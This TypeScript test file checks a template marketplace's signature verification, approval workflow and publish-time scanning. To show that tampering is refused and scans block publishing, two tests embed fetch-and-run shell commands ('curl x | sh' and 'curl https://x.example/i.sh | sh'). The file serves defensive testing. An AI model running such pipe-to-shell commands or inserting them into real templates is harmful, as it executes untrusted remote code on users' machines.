import { execFileSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { MarketplaceRefusal } from '../../../source/core/marketplace/MarketplaceRefusal.js';
import { readRelease } from '../../../source/core/marketplace/readRelease.js';
import { registryKeys } from '../../../source/core/marketplace/registryKeys.js';
import { reviewRelease } from '../../../source/core/marketplace/reviewRelease.js';
import { releaseStatus, verifyRelease } from '../../../source/core/marketplace/verifyRelease.js';
import {
  directoryStore,
  newKey,
  publishSample,
  scratchDir,
  TEMPLATE_TEXT,
  trustOf,
} from './marketplaceFixtures.js';

const expected = { slug: 'r-lab', version: '1.0.0' };

async function published() {
  const store = directoryStore();
  const publisher = newKey();
  const approver = newKey();
  const trust = trustOf(publisher, approver, store.location);
  await publishSample(store, publisher);
  return { store, publisher, approver, trust, files: await readRelease(store, 'r-lab', '1.0.0') };
}

function refusal(action: () => unknown): string {
  try {
    action();
  } catch (error) {
    if (error instanceof MarketplaceRefusal) return error.message;
    throw error;
  }
  throw new Error('expected a refusal');
}

describe('verifyRelease', () => {
  it('accepts an untouched release as a submission, then as approved once countersigned', async () => {
    const { store, approver, trust, files } = await published();
    const verified = verifyRelease(files, trust, expected);
    expect(verified.publisher.name).toBe('Genomics Core');
    expect(releaseStatus(verified)).toBe('submitted');
    await reviewRelease(store, trust, {
      ...expected,
      decision: 'approve',
      reason: 'checked by RC',
      reviewerName: 'Research Computing',
      key: approver,
      now: new Date(),
    });
    const reviewed = verifyRelease(await readRelease(store, 'r-lab', '1.0.0'), trust, expected);
    expect(releaseStatus(reviewed)).toBe('approved');
    expect(reviewed.review?.approver.name).toBe('Research Computing');
  });

  it('refuses altered template bytes', async () => {
    const { trust, files } = await published();
    const template = Buffer.from(TEMPLATE_TEXT.replace('R for the lab', 'R for the lab; curl x | sh'));
    expect(refusal(() => verifyRelease({ ...files, template }, trust, expected))).toMatch(
      /bytes are not the ones its publisher signed/,
    );
  });

  it('refuses altered metadata and an altered signature', async () => {
    const { trust, files } = await published();
    const envelope = JSON.parse(Buffer.from(files.signature).toString());
    const statement = JSON.parse(Buffer.from(envelope.payload, 'base64').toString());
    const metadata = {
      ...envelope,
      payload: Buffer.from(JSON.stringify({ ...statement, changelog: 'x' })).toString('base64'),
    };
    expect(
      refusal(() =>
        verifyRelease({ ...files, signature: Buffer.from(JSON.stringify(metadata)) }, trust, expected),
      ),
    ).toMatch(/signature does not match the signed metadata/);
    const flipped = Buffer.from(envelope.signature, 'base64');
    flipped[0] = (flipped[0] ?? 0) ^ 1;
    const signature = Buffer.from(JSON.stringify({ ...envelope, signature: flipped.toString('base64') }));
    expect(refusal(() => verifyRelease({ ...files, signature }, trust, expected))).toMatch(
      /signature does not match/,
    );
    expect(
      refusal(() =>
        verifyRelease({ ...files, signature: Buffer.from('{"not":"an envelope"}') }, trust, expected),
      ),
    ).toMatch(/not a cws-signature\/1 signature envelope/);
  });

  it('refuses an index that lists other bytes or another version than were signed', async () => {
    const { trust, files } = await published();
    expect(
      refusal(() => verifyRelease(files, trust, { ...expected, template_sha256: 'a'.repeat(64) })),
    ).toMatch(/altered index/);
    expect(refusal(() => verifyRelease(files, trust, { ...expected, version: '9.9.9' }))).toMatch(
      /signed as r-lab@1.0.0/,
    );
  });

  it('refuses an unknown signer and a revoked key, naming the fingerprint', async () => {
    const { trust, files, publisher } = await published();
    expect(refusal(() => verifyRelease(files, { ...trust, publishers: [] }, expected))).toMatch(
      new RegExp(
        `unknown signer: the key ${publisher.fingerprint.replace(/[+/]/g, '.')} is not a trusted publisher`,
      ),
    );
    expect(
      refusal(() => verifyRelease(files, { ...trust, revoked: [publisher.publicKey] }, expected)),
    ).toMatch(/is revoked/);
  });

  it('refuses a review by a key that is not an approver, and a review of another release', async () => {
    const { store, approver, trust, files } = await published();
    await reviewRelease(store, trust, {
      ...expected,
      decision: 'approve',
      reason: 'ok',
      reviewerName: 'RC',
      key: approver,
      now: new Date(),
    });
    const review = await store.get(registryKeys.review('r-lab', '1.0.0'));
    expect(refusal(() => verifyRelease({ ...files, review }, { ...trust, approvers: [] }, expected))).toMatch(
      /not a trusted approver/,
    );
  });

  it('the publisher cannot approve their own release, and a review needs an approver key', async () => {
    const { store, publisher, trust } = await published();
    const own = { ...trust, approvers: [{ name: 'self', key: publisher.publicKey }] };
    const request = {
      ...expected,
      decision: 'approve' as const,
      reason: 'mine',
      reviewerName: 'me',
      key: publisher,
      now: new Date(),
    };
    await expect(reviewRelease(store, own, request)).rejects.toThrow(/your own release/);
    await expect(reviewRelease(store, trust, request)).rejects.toThrow(/not an approver/);
  });

  it.runIf(existsSync('/usr/bin/openssl'))('the documented openssl steps verify the signature', async () => {
    const { files } = await published();
    const dir = scratchDir();
    const envelope = JSON.parse(Buffer.from(files.signature).toString());
    writeFileSync(join(dir, 'statement.json'), Buffer.from(envelope.payload, 'base64'));
    writeFileSync(join(dir, 'sig.bin'), Buffer.from(envelope.signature, 'base64'));
    writeFileSync(
      join(dir, 'pub.pem'),
      `-----BEGIN PUBLIC KEY-----\n${envelope.public_key}\n-----END PUBLIC KEY-----\n`,
    );
    const args = [
      'pkeyutl',
      '-verify',
      '-pubin',
      '-inkey',
      'pub.pem',
      '-rawin',
      '-in',
      'statement.json',
      '-sigfile',
      'sig.bin',
    ];
    expect(execFileSync('openssl', args, { cwd: dir }).toString()).toMatch(/Signature Verified Successfully/);
    const statement = JSON.parse(Buffer.from(envelope.payload, 'base64').toString());
    writeFileSync(join(dir, 'template.yml'), files.template);
    const digest = execFileSync('openssl', ['dgst', '-sha256', '-r', 'template.yml'], {
      cwd: dir,
    }).toString();
    expect(digest.split(' ')[0]).toBe(statement.template_sha256);
    writeFileSync(
      join(dir, 'statement.json'),
      Buffer.from(envelope.payload, 'base64').toString().replace('1.0.0', '1.0.1'),
    );
    expect(() => execFileSync('openssl', args, { cwd: dir, stdio: 'pipe' })).toThrow();
  });
});

describe('publishRelease', () => {
  it('keeps versions immutable and increasing, and semver only', async () => {
    const { store, publisher } = await published();
    await expect(publishSample(store, publisher, '1.0.0')).rejects.toThrow(
      /already published; versions are immutable/,
    );
    await expect(publishSample(store, publisher, '0.9.0')).rejects.toThrow(/older than the published 1.0.0/);
    await expect(publishSample(store, publisher, 'v2')).rejects.toThrow(/not a semver version/);
    await publishSample(store, publisher, '1.1.0');
    expect(await store.list('templates/r-lab/')).toContain('templates/r-lab/1.1.0/signature.json');
  });

  it('high scan findings block publishing unless overridden', async () => {
    const { store, publisher } = await published();
    await expect(
      publishSample(
        store,
        publisher,
        '2.0.0',
        `${TEMPLATE_TEXT}packages:\n  - curl https://x.example/i.sh | sh\n`,
      ),
    ).rejects.toThrow(/high-severity scan finding/);
  });
});
